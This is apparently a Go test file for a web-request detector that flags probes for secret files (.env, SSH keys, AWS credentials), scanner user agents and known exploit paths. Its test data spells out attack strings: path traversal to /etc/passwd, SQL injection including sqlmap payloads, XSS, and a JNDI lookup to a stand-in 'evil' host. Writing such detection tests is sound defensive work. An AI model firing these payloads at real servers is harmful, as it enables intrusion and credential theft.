package probes

import (
	"strings"
	"testing"
)

func TestSensitiveFile(t *testing.T) {
	// strong: counted whatever the answer
	strong := map[string]string{
		"/.env": "env", "/.ENV": "env", "/app/.env.production": "env", "/.git/config": "git",
		"/.git/HEAD": "git", "/.svn/entries": "svn", "/.DS_Store": "ds_store", "/.htpasswd": "htpasswd",
		"/wp-config.php": "wp-config", "/blog/WP-CONFIG.PHP": "wp-config", "/wp-config.php.bak": "wp-config",
		"/wp-config.old": "wp-config", "/.aws/credentials": "aws", "/home/.ssh/id_rsa": "ssh",
		"/id_rsa": "ssh_key", "/server-status": "server-status", "/phpinfo.php": "phpinfo",
		"/terraform.tfstate": "tfstate", "/.vscode/sftp.json": "vscode",
	}
	// weak: sites serve such files too, so they count only when answered 4xx
	weak := map[string]string{
		"/config.php~": "backup", "/index.php.swp": "backup", "/.index.php.swp": "backup", "/backup.sql": "backup",
		"/db.sql.gz": "backup", "/backup.zip": "backup", "/www.zip": "backup", "/downloads/schema.sql": "backup",
		"/blog/restore-from-backup.sql.gz": "backup", "/composer.json": "composer", "/debug.log": "debug_log",
		"/prod.tfstate": "backup",
	}
	for want, set := range map[bool]map[string]string{true: strong, false: weak} {
		for p, ev := range set {
			got, isStrong, ok := sensitiveFile(p)
			if !ok || got != ev || isStrong != want {
				t.Errorf("sensitiveFile(%q) = %q, strong %v, %v; want %q, strong %v", p, got, isStrong, ok, ev, want)
			}
			if got, ok := SensitiveFile(p); !ok || got != ev {
				t.Errorf("SensitiveFile(%q) = %q, %v", p, got, ok)
			}
		}
	}
	for _, p := range []string{
		"/", "", "/products/42", "/static/app.js", "/repo.git/info/refs", "/environment", "/envoy",
		"/.well-known/security.txt", "/.well-known/acme-challenge/x", "/docs/sql-guide", "/api/v1/backup",
		"/idea", "/ideas/1", "/downloads/vigil-1.0.tar.gz", "/" + strings.Repeat("a.", 100) + "bak",
		"/users/identity", "/id_", "/.sql", "/~alice/",
		"/db/northwind.sqlite", "/rpc/Document.save", "/files/report.old",
		"/patches/fix.orig", "/composer", "/blog/sql-backups-explained",
	} {
		if got, ok := SensitiveFile(p); ok {
			t.Errorf("SensitiveFile(%q) = %q: a legitimate path flagged", p, got)
		}
	}
}

func TestProbeSignature(t *testing.T) {
	hits := map[[2]string]string{
		{"/../../etc/passwd", ""}:                            "traversal",
		{"/static/..%2f..%2fetc/hosts", ""}:                  "traversal",
		{"/static/%252e%252e%252f%252e%252e%252fsecret", ""}: "traversal",
		{"/files", "name=..\\..\\boot.ini"}:                  "traversal",
		{"/download", "f=/etc/passwd"}:                       "traversal",
		{"/item", "id=1+UNION+SELECT+1,2,3"}:                 "sqli",
		{"/item", "id=1%20union/**/select%20password"}:       "sqli",
		{"/item", "id=1%0Aunion%09all%20select"}:             "sqli",
		{"/login", "user=admin'--"}:                          "sqli",
		{"/item", "id=1'+OR+'1'='1"}:                         "sqli",
		{"/item", "id=1;WAITFOR DELAY '0:0:5'"}:              "sqli",
		{"/search", "q=<script>alert(1)</script>"}:           "xss",
		{"/search", "q=%3CScRiPt%3Ealert(1)"}:                "xss",
		{"/go", "next=javascript:alert(document.domain)"}:    "xss",
		{"/p", "x=<img src=x onerror=alert(1)>"}:             "xss",
		{"/api", "x=${jndi:ldap://evil/a}"}:                  "jndi",
		{"/index.php", "page=php://filter/resource=x"}:       "php",
		{"/a%00.jpg", ""}:                                    "null_byte",
		// in the path one level is enough: browsers resolve dot segments
		{"/static/../app.py", ""}:    "traversal",
		{"/assets../etc/passwd", ""}: "traversal",
		{"/images/..;/admin", ""}:    "traversal",
		{"/a/%2e%2e/b", ""}:          "traversal",
		// sqlmap's own payloads
		{"/item", "id=1%20AND%20(SELECT%207984%20FROM%20(SELECT(SLEEP(5)))PpXZ)"}:     "sqli",
		{"/item", "id=1%20AND%207996=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(100),5)"}: "sqli",
		{"/item", "id=1%29%20ORDER%20BY%201--%20jHej"}:                                "sqli",
		{"/item", "id=1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--"}:                   "sqli",
	}
	for in, want := range hits {
		if got, ok := ProbeSignature(in[0], in[1]); !ok || got != want {
			t.Errorf("ProbeSignature(%q, %q) = %q, %v; want %q", in[0], in[1], got, ok, want)
		}
	}
	for _, in := range [][2]string{
		{"/products/42", ""}, {"/search", "q=hello+world&page=2"}, {"/search", "q=union+station+timetable"},
		{"/search", "q=what%27s+new"}, {"/api/items", "sort=-created&filter=name%3Dfoo"},
		{"/redirect", "to=https%3A%2F%2Fexample.com%2Fa%2Fb.html"}, {"/blog/2024/01/my-post.html", ""},
		{"/search", "q=O%27Reilly"}, {"/docs/c%2B%2B", ""}, {"/a/b", "email=alice%40example.com"},
		{"/calc", "expr=(1%2B2)*3"}, {"/files/report..final.pdf", ""},
		// ordinary text that looks like a payload fragment (found by review)
		{"/search", "q=JavaScript%3A+The+Good+Parts"}, {"/login", "next=../account/settings"},
		{"/search", "q=how+to+use+sleep()+in+python"}, {"/search", "q=document.cookie+samesite"},
		{"/app", "onload=init"}, {"/page", "a=1&onerror=retry"},
	} {
		if got, ok := ProbeSignature(in[0], in[1]); ok {
			t.Errorf("ProbeSignature(%q, %q) = %q: a legitimate request flagged", in[0], in[1], got)
		}
	}
}

func TestScannerAgent(t *testing.T) {
	for ua, want := range map[string]string{
		"sqlmap/1.7.2#stable (https://sqlmap.org)":                          "sqlmap",
		"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)":          "nikto",
		"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org)": "nmap scripting engine",
		"Fuzz Faster U Fool v2.1.0":                                         "fuzz faster u fool",
		"Mozilla/4.0 (Hydra)":                                               "hydra",
		"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)": "nuclei",
		"gobuster/3.6": "gobuster",
	} {
		if got, ok := ScannerAgent(ua); !ok || got != want {
			t.Errorf("ScannerAgent(%q) = %q, %v; want %q", ua, got, ok, want)
		}
	}
	for _, ua := range []string{
		"", "curl/8.5.0", "Go-http-client/1.1", "python-requests/2.31",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
	} {
		if got, ok := ScannerAgent(ua); ok {
			t.Errorf("ScannerAgent(%q) = %q: a legitimate agent flagged", ua, got)
		}
	}
}

func TestStaticAsset(t *testing.T) {
	for p, w := range map[string]float64{
		"/app.JS": assetWeight, "/img/logo.png": assetWeight, "/fonts/a.woff2": assetWeight, "/admin.css": assetWeight,
		"/favicon.ico": 0, "/robots.txt": 0, "/.well-known/appspecific/com.chrome.devtools.json": 0,
		"/apple-touch-icon-precomposed.png": 0, "/Apple-Touch-Icon-120x120.png": 0, "/sitemap.xml": 0,
		"/": pageWeight, "/admin": pageWeight, "/wp-login.php": pageWeight, "/.env": pageWeight, "/backup.zip": pageWeight,
		"/api/v1/users": pageWeight, "/" + strings.Repeat("x", 80) + ".css": pageWeight,
	} {
		if got := scanWeight(p); got != w {
			t.Errorf("scanWeight(%q) = %v, want %v", p, got, w)
		}
		if StaticAsset(p) != (w < pageWeight) {
			t.Errorf("StaticAsset(%q) = %v", p, !(w < pageWeight))
		}
	}
}

func TestPathShape(t *testing.T) {
	for in, want := range map[string]string{
		"/api/items/17": "/api/items/#", "/API/Items/18": "/api/items/#", "/": "/", "/admin": "/admin",
		"/api/v1/orders/5a17c0de-4e2b-4c1d-9a7e-1f2a3b4c5d01": "/api/v1/orders/#", "/blog/2019/our-story": "/blog/#/our-story",
		"/assets/index-4f2a9b1c.js": "/assets/index-4f2a9b1c.js", "/deadbeef": "/deadbeef", "/cafe1234": "/#",
	} {
		if got := pathShape(in); got != want {
			t.Errorf("pathShape(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestPathProbes(t *testing.T) {
	for p, want := range map[string]string{
		"/_ignition/execute-solution": "laravel_ignition", "/vendor/phpunit/phpunit/src/util/php/eval-stdin.php": "phpunit_eval",
		"/hnap1/": "dlink_hnap", "/uploads/c99.php": "webshell", "/wso.php": "webshell",
	} {
		if got, ok := exploitProbe(p, ""); !ok || got != want {
			t.Errorf("exploitProbe(%q) = %q, %v; want %q", p, got, ok, want)
		}
	}
	if got, ok := exploitProbe("/index.php", "-d+allow_url_include%3d1"); !ok || got != "php_cgi" {
		t.Errorf("php-cgi argument injection: %q %v", got, ok)
	}
	for _, p := range []string{"/", "/products/42", "/shell", "/api/v1/containers", "/setup", "/blog/phpunit-tips"} {
		if got, ok := exploitProbe(p, "q=x"); ok {
			t.Errorf("exploitProbe(%q) = %q", p, got)
		}
	}
	for p, want := range map[string]bool{
		"/admin": true, "/administrator/": true, "/phpmyadmin/": true, "/pma/": true, "/wp-login.php": true,
		"/manager/html": true, "/blog/admins-guide": true, "/products": false, "/badminton": false, "/wp-content/x.png": false,
	} {
		if adminProbe(p) != want {
			t.Errorf("adminProbe(%q) = %v", p, !want)
		}
	}
	for p, want := range map[string]bool{
		"/wp-login.php": true, "/blog/wp-admin/install.php": true, "/xmlrpc.php": true, "/wp-content/plugins/akismet/readme.txt": true,
		"/wp-content/themes/x/style.css": false, "/wp-content/uploads/a.jpg": false, "/index.php": false,
	} {
		if wordpressProbe(p) != want {
			t.Errorf("wordpressProbe(%q) = %v", p, !want)
		}
	}
}

// The checks run on every request: they must not allocate.
func TestProbeChecksDoNotAllocate(t *testing.T) {
	ua := "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
	n := testing.AllocsPerRun(100, func() {
		SensitiveFile("/static/css/site.min.css")
		ProbeSignature("/search", "q=hello+world%21&page=2")
		ScannerAgent(ua)
		StaticAsset("/img/logo.png")
	})
	if n != 0 {
		t.Fatalf("%v allocations per request", n)
	}
}

func BenchmarkProbeChecksPlainPath(b *testing.B) {
	for i := 0; i < b.N; i++ {
		SensitiveFile("/products/42")
		ProbeSignature("/products/42", "")
		ScannerAgent("")
	}
}

func BenchmarkProbeChecksTypical(b *testing.B) {
	ua := "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
	for i := 0; i < b.N; i++ {
		SensitiveFile("/static/css/site.min.css")
		ProbeSignature("/search", "q=hello+world%21&page=2")
		ScannerAgent(ua)
	}
}

func FuzzProbeSignature(f *testing.F) {
	f.Add("/a/../b", "q=%2", "sqlmap")
	f.Add("/%25%32%65", "x=/**", "")
	f.Fuzz(func(t *testing.T, path, query, ua string) {
		ProbeSignature(path, query)
		SensitiveFile(path)
		ScannerAgent(ua)
		StaticAsset(path)
	})
}

func TestAgentVerdicts(t *testing.T) {
	var c AgentVerdicts
	for i := 0; i < 3; i++ {
		if name, ok := c.Check("sqlmap/1.7"); !ok || name != "sqlmap" {
			t.Fatalf("round %d: %q %v", i, name, ok)
		}
		if _, ok := c.Check("curl/8.5.0"); ok {
			t.Fatalf("round %d: curl flagged", i)
		}
	}
	for i := 0; i < maxAgentVerdicts+10; i++ {
		c.Check("agent-" + strings.Repeat("x", i%50) + string(rune('a'+i%26)) + strings.Repeat("y", i/50))
	}
	if len(c.m) > maxAgentVerdicts {
		t.Fatalf("cache grew to %d", len(c.m))
	}
}

func BenchmarkAgentVerdictsHit(b *testing.B) {
	var c AgentVerdicts
	ua := "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
	c.Check(ua)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		c.Check(ua)
	}
}
